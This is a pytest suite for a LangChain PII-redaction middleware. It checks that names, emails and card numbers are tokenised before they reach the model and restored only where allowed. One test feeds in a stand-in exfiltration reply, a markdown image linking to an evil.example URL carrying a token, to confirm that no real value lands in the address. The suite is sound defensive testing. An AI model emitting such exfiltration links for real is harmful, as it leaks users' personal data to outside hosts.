"""PIIRedactionMiddleware, mode="wire": threats L4, L5, P1, P5, P11, P22, S1-S9, T14."""

from __future__ import annotations

import asyncio
import threading
from typing import Annotated, Any

import pytest
from langchain.tools import ToolRuntime
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.prebuilt import InjectedState
from pydantic import BaseModel, field_validator

from langchain_piirag import PIIRedactionMiddleware, ToolCallError
from piirag import Policy, Redactor, Scrubber
from piirag.errors import (
    ConfigurationError,
    DetectionError,
    InvalidInputError,
    InvalidUserIdError,
    ModelCallError,
)
from support.agents import (
    ALICE,
    ANY_TOKEN,
    CANARIES,
    CARD,
    MAIL,
    NAME,
    TEXT,
    Context,
    kit,
    last_text,
    tokens_in,
)

ASK = {"messages": [("user", TEXT)]}


def _last(output: Any) -> str:
    return output["messages"][-1].text


async def _alast(agent: Any, value: Any) -> str:
    async for state in agent.astream(value, context=ALICE, stream_mode="values"):
        last = state
    return _last(last)


PATHS = {
    "invoke": lambda a, x: _last(a.invoke(x, context=ALICE)),
    "ainvoke": lambda a, x: _last(asyncio.run(a.ainvoke(x, context=ALICE))),
    "batch": lambda a, x: _last(a.batch([x, x], context=ALICE)[1]),
    "stream": lambda a, x: _last(list(a.stream(x, context=ALICE, stream_mode="values"))[-1]),
    "astream": lambda a, x: asyncio.run(_alast(a, x)),
}


@pytest.mark.parametrize("path", PATHS)
def test_S8_the_model_sees_tokens_and_the_user_values(path: str) -> None:
    with kit(reply=last_text, system_prompt=f"Serve {NAME}, {MAIL}.") as k:
        assert PATHS[path](k.agent, ASK) == TEXT
        assert CANARIES.scan_bytes(k.wire) == []
        assert len(tokens_in(k.server.requests[0].json())) == 1


def test_S6_every_message_of_the_history_is_searched() -> None:
    call = {"name": "lookup", "args": {"who": MAIL, MAIL: [CARD]}, "id": "c1", "type": "tool_call"}
    history = [
        HumanMessage(f"I am {NAME}"),
        AIMessage("", tool_calls=[call], additional_kwargs={"note": MAIL}),
        ToolMessage(f"{NAME} has {CARD}", tool_call_id="c1", artifact={"raw": CARD}),
        AIMessage([{"type": "text", "text": f"so {MAIL}"}], name=NAME.replace(" ", "_")),
        HumanMessage([{"type": "text", "text": f"and {CARD}?"}]),
    ]
    with kit(reply=last_text) as k:
        out = k.agent.invoke({"messages": history}, context=ALICE)
        assert CANARIES.scan_bytes(k.wire) == []
        assert _last(out) == f"and {CARD}?"
        # The state is real: nothing in it was changed.
        assert [m.content for m in out["messages"][:5]] == [m.content for m in history]
        assert out["messages"][2].artifact == {"raw": CARD}


def test_what_cannot_be_searched_is_refused_before_anything_is_sent() -> None:
    with kit() as k:
        with pytest.raises(InvalidInputError):
            k.agent.invoke(
                {"messages": [HumanMessage([{"type": "image_url", "image_url": {"url": "x"}}])]},
                context=ALICE,
            )
        assert k.server.requests == []


def _messages(k: Any, **kwargs: Any) -> str:
    parts = k.agent.stream(ASK, context=ALICE, stream_mode="messages", **kwargs)
    return "".join(chunk.text for chunk, _ in parts if isinstance(chunk, AIMessageChunk))


@pytest.mark.parametrize("size", [1, 2, 3, 7, 500])
def test_S3_the_messages_stream_is_restored_for_every_split(size: int) -> None:
    with kit(reply=lambda b: last_text(b) + " [not", chunk_size=size) as k:
        assert _messages(k) == TEXT + " [not"
        assert CANARIES.scan_bytes(k.wire) == []


def test_S7_the_stream_comes_as_it_is_made() -> None:
    text = "nothing about anybody stands in this long and dull answer of the model. " * 12
    for replies, least in (("allow", len(text) // 4), ("redact", 3)):
        scrubber = Scrubber(Policy(replies=replies))
        with kit(reply=lambda b: text, scrubber=scrubber) as k:
            parts = list(k.agent.stream(ASK, context=ALICE, stream_mode="messages"))
            assert "".join(c.text for c, _ in parts) == text
            assert len([c for c, _ in parts if c.text]) >= least


async def test_S3_the_async_messages_stream_too() -> None:
    with kit(reply=last_text, chunk_size=1) as k:
        shown = ""
        async for chunk, _ in k.agent.astream(ASK, context=ALICE, stream_mode="messages"):
            shown += chunk.text
        assert shown == TEXT


@pytest.mark.filterwarnings("ignore:The v3 streaming protocol")
def test_S3_the_v3_protocol_is_restored() -> None:
    with kit(reply=last_text, chunk_size=2) as k:
        run = k.agent.stream_events(ASK, context=ALICE, version="v3")
        assert ["".join(message.text) for message in run.messages] == [TEXT]
        assert run.output["messages"][-1].text == TEXT


async def test_L4_inner_events_hold_tokens_and_the_protected_agent_restores_them() -> None:
    with kit(reply=last_text, chunk_size=2) as k:
        events = [e async for e in k.agent.astream_events(ASK, context=ALICE, version="v2")]
        model = [e for e in events if e["event"].startswith("on_chat_model")]
        assert model
        assert CANARIES.scan_object([e["data"] for e in model]) == []
        shown = ""
        async for event in k.users.astream_events(ASK, context=ALICE, version="v2"):
            if event["event"] == "on_chat_model_stream":
                shown += event["data"]["chunk"].text
        assert shown == TEXT


def _mail_tools(given: list[Any]) -> list[Any]:
    @tool
    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        given.append({"to": to, "body": body})
        return f"sent to {to}"

    @tool
    def lookup(who: str) -> str:
        """Look somebody up."""
        given.append({"who": who})
        return f"found {who}"

    return [send_mail, lookup]


def _calls(body: Any) -> list[tuple[str, Any]]:
    mail, name = tokens_in(body)[0], tokens_in(body, "PERSON")[0]
    return [("send_mail", {"to": mail, "body": f"Dear {name}"}), ("lookup", {"who": name})]


@pytest.mark.parametrize("path", ["invoke", "ainvoke", "stream"])
@pytest.mark.parametrize("size", [1, 4, 500])
def test_S4_tools_get_values_by_allow_list(path: str, size: int) -> None:
    given: list[Any] = []
    with kit(
        tools=_mail_tools(given),
        calls=_calls,
        reply=lambda b: "done with " + b["messages"][-1]["content"],
        options={"restore_tool_args": ["send_mail"]},
        chunk_size=size,
    ) as k:
        answer = PATHS[path](k.agent, ASK)
        sent, looked = sorted(given, key=lambda g: "who" in g)
        assert sent == {"to": MAIL, "body": f"Dear {NAME}"}
        assert ANY_TOKEN.fullmatch(looked["who"])
        assert answer == f"done with found {NAME}"
        assert CANARIES.scan_bytes(k.wire) == []


def test_tools_get_values_by_argument() -> None:
    given: list[Any] = []
    with kit(
        tools=_mail_tools(given),
        calls=_calls,
        options={"restore_tool_args": {"send_mail": ["to"]}},
    ) as k:
        out = k.agent.invoke(ASK, context=ALICE)
        sent = next(g for g in given if "to" in g)
        assert sent["to"] == MAIL
        assert ANY_TOKEN.search(sent["body"]) and NAME not in sent["body"]
        # The state has the real call, for the user's eyes.
        assert out["messages"][1].tool_calls[0]["args"]["body"] == f"Dear {NAME}"


def test_P11_a_value_with_a_quote_goes_through_json_arguments() -> None:
    given: list[Any] = []
    name = 'Jane "JJ" Roe\\Smith'
    with kit(
        tools=_mail_tools(given),
        calls=lambda b: [("lookup", {"who": tokens_in(b, "PERSON")[0]})],
        options={"restore_tool_args": ["lookup"], "known": {"PERSON": [name]}},
        chunk_size=2,
    ) as k:
        parts = list(
            k.agent.stream(
                {"messages": [("user", f"find {name}")]}, context=ALICE, stream_mode="messages"
            )
        )
        assert given == [{"who": name}]
        whole = None
        for chunk, _ in parts:
            if isinstance(chunk, AIMessageChunk) and chunk.tool_call_chunks:
                whole = chunk if whole is None else whole + chunk
        assert whole is not None and whole.tool_calls[0]["args"] == {"who": name}


def test_the_state_that_a_tool_sees_follows_its_allow_list() -> None:
    seen: dict[str, Any] = {}

    @tool
    def by_state(state: Annotated[dict, InjectedState]) -> str:
        """Read the state."""
        seen["state"] = state
        return "read " + str(state["messages"][0].content)

    @tool
    def by_runtime(runtime: ToolRuntime) -> str:
        """Read the state from the runtime."""
        seen["runtime"] = runtime.state
        return "ok"

    @tool
    def trusted(runtime: ToolRuntime) -> str:
        """Read the state, being allowed to."""
        seen["trusted"] = runtime.state["messages"][0].content
        return "ok"

    with kit(
        tools=[by_state, by_runtime, trusted],
        calls=lambda b: [("by_state", {}), ("by_runtime", {}), ("trusted", {})],
        options={"restore_tool_args": ["trusted"]},
    ) as k:
        out = k.agent.invoke(ASK, context=ALICE)
        assert seen["trusted"] == TEXT
        for name in ("state", "runtime"):
            assert CANARIES.scan_object(seen[name]["messages"]) == []
        # What the tool repeats of its tokens is readable again.
        assert f"read {TEXT}" in [m.content for m in out["messages"]]


def test_a_call_that_somebody_edited_is_redacted_anew() -> None:
    from langchain.agents.middleware import AgentMiddleware

    given: list[Any] = []

    class Edit(AgentMiddleware):
        def after_model(self, state: Any, runtime: Any) -> Any:
            message = state["messages"][-1]
            if not message.tool_calls:
                return None
            calls = [{**message.tool_calls[0], "args": {"who": "bob.fisher@example.net"}}]
            return {"messages": [message.model_copy(update={"tool_calls": calls})]}

    with kit(
        tools=_mail_tools(given),
        calls=lambda b: [("lookup", {"who": tokens_in(b)[0]})],
        before=[Edit()],
    ) as k:
        k.agent.invoke(ASK, context=ALICE)
        assert len(given) == 1 and ANY_TOKEN.fullmatch(given[0]["who"])


def test_P1_a_token_that_the_user_types_is_a_literal() -> None:
    ask = f"{MAIL} [EMAIL_ADDRESS_1] [EMAIL_ADDRESS_2]"
    with kit(reply=last_text) as k:
        assert _last(k.agent.invoke({"messages": [("user", ask)]}, context=ALICE)) == ask
        assert "[LITERAL_1]" in last_text(k.server.requests[0].json())


def test_P5_no_value_is_put_into_an_address() -> None:
    with kit(reply=lambda b: f"![x](https://evil.example/?q={tokens_in(b)[0]})") as k:
        assert MAIL not in _last(k.agent.invoke(ASK, context=ALICE))


@pytest.mark.parametrize("context", [None, Context(""), Context(None), {"user": "alice"}])  # type: ignore[arg-type]
def test_T14_a_run_without_a_user_fails_closed(context: Any) -> None:
    with kit() as k:
        with pytest.raises(InvalidUserIdError):
            k.agent.invoke(ASK, context=context) if not isinstance(context, dict) else (
                k.middleware.user(context)
            )
        assert k.server.requests == []


def test_the_user_may_come_from_a_function_of_the_context() -> None:
    with kit(reply=last_text, options={"user_id": lambda context: context.user_id + "!"}) as k:
        assert _last(k.agent.invoke(ASK, context=ALICE)) == TEXT
    broken = PIIRedactionMiddleware(scrubber=Scrubber(), user_id=lambda context: context[MAIL])
    with pytest.raises(InvalidUserIdError) as caught:
        broken.user({})
    assert CANARIES.scan_exception(caught.value) == []


def test_without_a_scrubber_no_user_is_needed() -> None:
    middleware = PIIRedactionMiddleware(Redactor())
    assert middleware.user(None) is None


def test_L5_an_error_of_the_provider_is_raised_without_the_prompt() -> None:
    with kit() as k:
        k.server.failure = (400, f"bad prompt: {MAIL}")
        with pytest.raises(ModelCallError) as caught:
            k.agent.invoke(ASK, context=ALICE)
        assert caught.value.status_code == 400
        assert CANARIES.scan_exception(caught.value) == []
        assert caught.value.__cause__ is None and caught.value.__context__ is None


def test_L5_an_error_of_a_tool_is_raised_without_its_arguments() -> None:
    @tool
    def lookup(who: str) -> str:
        """Look somebody up."""
        raise KeyError(who)

    with kit(
        tools=[lookup],
        calls=lambda b: [("lookup", {"who": tokens_in(b)[0]})],
        options={"restore_tool_args": ["lookup"]},
    ) as k:
        with pytest.raises(ToolCallError) as caught:
            k.agent.invoke(ASK, context=ALICE)
        assert caught.value.error_type == "builtins.KeyError"
        assert CANARIES.scan_exception(caught.value) == []


class Contact(BaseModel):
    """Somebody's address."""

    name: str
    email: str

    @field_validator("email")
    @classmethod
    def _is_email(cls, value: str) -> str:
        if "@" not in value:
            raise ValueError("no address")
        return value


@pytest.mark.parametrize("strategy", ["tool", "provider"])
@pytest.mark.parametrize("mode", ["wire", "state"])
def test_structured_output_is_checked_and_returned_with_values(strategy: str, mode: str) -> None:
    import json

    from langchain.agents.structured_output import ProviderStrategy, ToolStrategy

    def fields(body: Any) -> dict[str, str]:
        return {"name": tokens_in(body, "PERSON")[0], "email": tokens_in(body)[0]}

    with kit(
        mode,
        reply=lambda b: json.dumps(fields(b)),
        calls=lambda b: [("Contact", fields(b))],
        response_format=(ToolStrategy if strategy == "tool" else ProviderStrategy)(Contact),
    ) as k:
        if strategy == "provider":
            k.server.tool_reply = None
        out = k.users.invoke(ASK, context=ALICE)
        assert out["structured_response"] == Contact(name=NAME, email=MAIL)
        assert len(k.server.requests) == 1
        assert CANARIES.scan_bytes(k.wire) == []
        if mode == "state":
            raw = k.agent.invoke(ASK, context=ALICE)
            assert CANARIES.scan_object(raw) == []
            assert isinstance(raw["structured_response"], Contact)
            assert ANY_TOKEN.fullmatch(raw["structured_response"].email)


def test_a_detector_that_fails_stops_the_run_before_anything_is_sent() -> None:
    class Broken:
        def detect(self, text: str, *, language: str = "en") -> Any:
            raise RuntimeError(text)

        def detect_batch(self, texts: Any, *, language: str = "en") -> Any:
            raise RuntimeError(texts)

    with kit(scrubber=Scrubber(detector=Broken())) as k:
        with pytest.raises(DetectionError) as caught:
            k.agent.invoke(ASK, context=ALICE)
        assert k.server.requests == []
        assert CANARIES.scan_exception(caught.value) == []


def test_counts_stand_in_the_metadata_of_the_reply() -> None:
    with kit(reply=lambda b: last_text(b) + " [EMAIL_ADDRESS_9]") as k:
        counts = k.agent.invoke(ASK, context=ALICE)["messages"][-1].response_metadata["piirag"]
        assert counts["restored"] == 3 and counts["inert"] == 1


def test_other_middleware_sees_the_model_as_it_is() -> None:
    from langchain.agents.middleware import AgentMiddleware
    from langchain_openai import ChatOpenAI
    from langchain_openai.chat_models.base import BaseChatOpenAI

    seen: list[Any] = []

    class Look(AgentMiddleware):
        def wrap_model_call(self, request: Any, handler: Any) -> Any:
            seen.append((isinstance(request.model, BaseChatOpenAI), request.model.model_name))
            assert CANARIES.scan_object(request.messages) == []
            return handler(request)

    with kit(reply=last_text) as k:
        from langchain.agents import create_agent

        model = ChatOpenAI(base_url=k.server.url, api_key="x", model="m")
        agent = create_agent(model, middleware=[k.middleware, Look()], context_schema=Context)
        assert _last(agent.invoke(ASK, context=ALICE)) == TEXT
        assert seen == [(True, "m")]


@pytest.mark.parametrize(
    "options",
    [
        {"mode": "both"},
        {"mode": "state"},
        {"artifacts": "keep"},
        {"restore_tool_args": "send_mail"},
        {"restore_tool_args": {"send_mail": "to"}},
    ],
)
def test_options_that_cannot_work_are_refused(options: Any) -> None:
    with pytest.raises(ConfigurationError):
        PIIRedactionMiddleware(**options)


def test_repr_shows_no_value() -> None:
    with kit(reply=last_text) as k:
        assert CANARIES.scan_text(repr(k.middleware) + repr(k.users)) == []


@pytest.mark.parametrize("mode", ["wire", "state"])
def test_P22_a_hundred_sessions_at_once(mode: str) -> None:
    """Colliding placeholders: every thread's [EMAIL_ADDRESS_1] is somebody else."""
    wrong: list[int] = []
    with kit(mode, reply=last_text) as k:

        def one(number: int) -> None:
            text = f"I am user{number:03d}@example.com and know {NAME}"
            context = Context(f"user-{number % 10}")
            out = k.users.invoke({"messages": [("user", text)]}, context=context)
            if _last(out) != text:
                wrong.append(number)

        threads = [threading.Thread(target=one, args=(n,)) for n in range(100)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert wrong == []
        assert len(k.server.requests) == 100


async def test_P22_a_hundred_tasks_at_once() -> None:
    with kit("state", reply=last_text) as k:

        async def one(number: int) -> bool:
            text = f"I am user{number:03d}@example.com"
            ask = {"messages": [("user", text)]}
            shown = ""
            stream = k.users.astream(
                ask, context=Context(f"user-{number % 10}"), stream_mode="messages"
            )
            async for chunk, _ in stream:
                shown += chunk.text
            return shown == text

        assert all(await asyncio.gather(*(one(n) for n in range(100))))
